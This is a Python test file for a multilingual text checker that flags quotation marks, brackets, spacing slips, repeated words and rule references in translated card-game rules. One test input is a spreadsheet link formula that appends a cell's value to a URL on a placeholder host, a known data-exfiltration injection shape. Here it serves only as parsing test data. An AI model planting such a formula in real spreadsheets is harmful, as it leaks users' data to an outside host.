"""Quotation marks, brackets, spaces, repeated words, starts and ends: one text at a time."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aligner.checks.differences import ReferenceSet, Side, lacking, references_of, rules_of, same_slots, slots_of
from aligner.checks.lengths import begins_low, begins_with_scrap, has_end
from aligner.fixed import fixed
from aligner.languages import PROFILES
from aligner.marks import marks, outermost, style
from aligner.model import Ruling
from aligner.slips import slips


def loose(text: str, language: str) -> list[tuple[str, str]]:
    return [(one.kind, text[one.start : one.end]) for one in marks(text, language).loose]


def side(text: str, language: str) -> Side:
    return Side(language, (Ruling(text, 1),), (fixed(text, language),))


@pytest.mark.parametrize(
    ("language", "text", "expected"),
    [
        ("de", 'Das Wort „kannst" heißt das.', [("mismatched", '„kannst"')]),
        ("de", "Das Wort „kannst“ und »darfst« und „es ‚heißt‘ so“.", []),
        ("de", "Das Wort kannst“ heißt das.", [("unopened", "Das Wort kannst“")]),
        ("de", 'Sie haben „Ziehe eine Karte."Opfere sie.', [("mismatched", '„Ziehe eine Karte."')]),
        ("en", "The word “may“ is wrong.", [("mismatched", "“may“")]),
        ("en", 'The word “may" is wrong.', [("mismatched", '“may"')]),
        ("en", "It says “may, but stops.", [("unclosed", "“may")]),
        ("en", "The players’ hands, l’éphémère, the ’90s, don’t.", []),
        ("en", "It is 5\" long and 3' wide.", []),
        ("en", "Choose (draw a card [or two).", [("unclosed", "[or two)")]),
        ("en", "1) Draw; 2) discard; a) both :)", []),
        ("en", "Draw a card), then discard.", [("unopened", "Draw a card)")]),
        ("en", "Pay {2}{R (that is all).", []),
        ("fr", "On dit « oui », puis (« non ») et « l’“un” ».", []),
        ("fr", "On dit « oui, puis non.", [("unclosed", "« oui")]),
        ("ru", "Сказано «слово „стек“ здесь» и “так”, planeswalker'а.", []),
        ("ru", "Сказано «слово.", [("unclosed", "«слово")]),
        ("ja", "「『語』」（参照)", []),
        ("ja", "「A「B」", [("unclosed", "「A「B」")]),
        ("zhs", "写着“‘堆叠’已空”《规则》。", []),
        ("zhs", "他说“好。", [("unclosed", "“好")]),
        ("zht", "寫著「『堆疊』已空」。", []),
        ("ko", "“스택”과 ‘카드’.", []),
        ("es", "«Vuela»\n«Arrolla»", []),
        ("en", "“One paragraph.\n“Another.”", []),
    ],
)
def test_loose_marks(language: str, text: str, expected: list[tuple[str, str]]) -> None:
    assert loose(text, language) == expected


@pytest.mark.parametrize(
    ("language", "text", "expected"),
    [
        ("ru", '"Шторм" и «стек».', ['""', "«»"]),
        ("en", "It's “the ‘stack’ rule”.", ["“”"]),
        ("en", '=LINK("http://example.invalid/?a="&A1;"press")', []),
        ("fr", "« l’“un” »", ["«»"]),
    ],
)
def test_outermost_quotations(language: str, text: str, expected: list[str]) -> None:
    assert [style(pair) for pair in outermost(marks(text, language))] == expected


@given(st.text("ab “”„«»「」『』‘’()[]\"'\n.", max_size=30), st.sampled_from(sorted(PROFILES)))
def test_marks_lie_in_the_text_and_in_order(text: str, language: str) -> None:
    found = marks(text, language)
    for one in (*found.pairs, *found.loose):
        assert 0 <= one.start < one.end <= len(text)
    assert [one.start for one in found.loose] == sorted(one.start for one in found.loose)


@given(
    st.lists(st.sampled_from(["a", " ", "b "]), max_size=5).map("".join),
    st.sampled_from(sorted(PROFILES)),
    st.integers(0, 3),
)
def test_the_usual_pair_is_never_loose(inner: str, language: str, which: int) -> None:
    pairs = [one for one in PROFILES[language].quotes if one[0] not in "‘‚‹"]
    opening, closing = pairs[which % len(pairs)]
    assert loose(f"x {opening}y{inner}z{closing}.", language) == []


@pytest.mark.parametrize(
    ("language", "text", "expected"),
    [
        ("en", "Draw a  card.", [("double space", "a  card.", "a card.")]),
        ("en", "Draw.  Then stop. It says “stop.”  Then go.", []),
        ("en", "•  A card.\n  Indented.", []),
        (
            "en",
            "Draw , then stop .",
            [("space before a mark", "Draw ,", "Draw,"), ("space before a mark", "stop .", "stop.")],
        ),
        ("fr", "Payez : oui ; non ! Vraiment ?", []),
        ("fr", "Payez , puis.", [("space before a mark", "Payez ,", "Payez,")]),
        ("en", "Search . . . then ... pay .5 or 1,000 at example.com/a,b :)", []),
        ("ru", "Возьмите карту,затем сбросьте.", [("no space after a mark", "карту,затем", "карту, затем")]),
        (
            "ru",
            "Землю,существо,артефакт или планету,битву.",
            [
                ("no space after a mark", "Землю,существо,артефакт", "Землю, существо, артефакт"),
                ("no space after a mark", "планету,битву.", "планету, битву."),
            ],
        ),
        ("ru", "Возьмите карту.Затем.", [("no space after a mark", "карту.Затем.", "карту. Затем.")]),
        ("ja", "対象 。次", [("space before a mark", "象 。", "象。")]),
        ("ja", "「フラッシュバック [コスト]」、次。", []),
        (
            "pt",
            "Um card ( dois ).",
            [("space inside marks", "( dois", "(dois"), ("space inside marks", "dois ).", "dois).")],
        ),
        ("en", "The the card.", [("word twice", "The the", "The")]),
        ("en", "If if had had that that X X 2 2 +1/+1 +1/+1.", [("word twice", "If if", "If")]),
        ("en", "That is so, so it is. Boom Boom and Will will.", []),
        ("de", "Karte Karte, die die Kreatur, der der Schaden.", [("word twice", "Karte Karte", "Karte")]),
        ("fr", "Si vous vous défaussez, ce tour-ci.", []),
        ("ja", "人々はますます速い。をを読む。", [("word twice", "をを", "を")]),
        ("zhs", "每位牌手每位牌手抓牌，多多益善。", [("word twice", "每位牌手每位牌手", "每位牌手")]),
        ("ko", "그 그 카드 카드.", [("word twice", "카드 카드", "카드")]),
    ],
)
def test_slips(language: str, text: str, expected: list[tuple[str, ...]]) -> None:
    found = [(one.kind, text[one.start : one.end], one.suggestion) for one in slips(text, language)]
    assert found == expected


@pytest.mark.parametrize(
    ("text", "language", "expected"),
    [
        ("y target artifact", "en", True),
        ("six-sided die", "en", True),
        ("l'artefact ciblé", "fr", True),
        ("Draw a card", "en", False),
        ("“Up to X”", "en", False),
        ("“up to X”", "en", None),
        ("{T} abilities", "en", None),
        ("3 damage", "en", None),
        ("a) Draw", "en", None),
        ("o2: Draw", "en", None),
        ("www.example.com", "en", None),
        ("iPhone", "en", None),
        ("chaosを出す", "ja", None),
    ],
)
def test_starts(text: str, language: str, expected: bool | None) -> None:
    assert begins_low(text, language) is expected


@pytest.mark.parametrize(
    ("text", "language", "expected"),
    [
        ("It ends.", "en", True),
        ("It says “ends.”)", "en", True),
        ("終わる。」", "ja", True),
        ("It ends…", "en", True),
        ("Choose one —", "en", None),
        ("Choose one:", "en", None),
        ("Add {G}", "en", None),
        ("See https://example.com/a-b", "en", None),
        ("It does not end", "en", False),
        ("It is cut o-", "en", False),
        ("終わらない", "ja", False),
    ],
)
def test_ends(text: str, language: str, expected: bool | None) -> None:
    assert has_end(text, language) is expected


def test_scraps() -> None:
    assert begins_with_scrap(": 케시그 늑대는")
    assert begins_with_scrap("、次に")
    assert not begins_with_scrap("... then")
    assert not begins_with_scrap(":) fine")


def test_references_by_value() -> None:
    assert rules_of("409.1f-h") == rules_of("409.1f-409.1h") == ("409.1f", "409.1h")
    russian = references_of(side("См. раздел 706 и правило 409.1 b.", "ru"))
    assert lacking(references_of(side("See rules 706 and 409.1b.", "en")), russian) == []
    assert lacking(ReferenceSet(frozenset({"409.1d"}), ""), russian) == ["409.1d"]
    assert lacking(ReferenceSet(frozenset({"70"}), ""), russian) == ["70"]


def test_slots_by_count_and_label() -> None:
    english = slots_of(side("Pay [cost] for [A] or [B].", "en"))
    assert same_slots(english, slots_of(side("[А]か[B]のために［コスト］を支払う。", "ja")))
    assert not same_slots(english, slots_of(side("Bezahle [Kosten] für [A].", "de")))
    assert not same_slots(english, slots_of(side("Bezahle [Kosten] für [A] oder [C].", "de")))
